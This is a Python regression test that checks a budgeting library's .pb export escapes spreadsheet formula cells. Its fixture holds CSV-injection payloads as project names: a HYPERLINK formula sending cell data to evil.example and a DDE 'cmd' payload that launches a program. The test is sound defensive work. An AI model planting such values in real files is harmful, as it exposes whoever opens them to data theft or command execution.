"""The public .pb export neutralises formula cells (federation.csvio.safe_cell): a project
titled ``=HYPERLINK(…)`` came out verbatim, and a spreadsheet opening the file ran it."""

from __future__ import annotations

from convergence_budget import pabulib

PB = """META
key;value
budget;1000
vote_type;approval
PROJECTS
project_id;cost;name
1;600;=HYPERLINK("http://evil.example/?"&A1;"clic")
2;400;+cmd|' /C calc'!A0
3;5;-5 degrees: a plain number first, kept
VOTES
voter_id;vote
v1;1,2
v2;2
"""


def test_formula_cells_are_neutralised_in_the_pb_export():
    text = pabulib.write(pabulib.parse(PB))
    lines = text.splitlines()
    assert not any(cell.startswith(("=", "+", "@")) for line in lines for cell in line.split(";"))
    assert "'=HYPERLINK" in text and "'+cmd" in text
    assert pabulib.parse(text).meta["budget"] == "1000"  # still a valid file
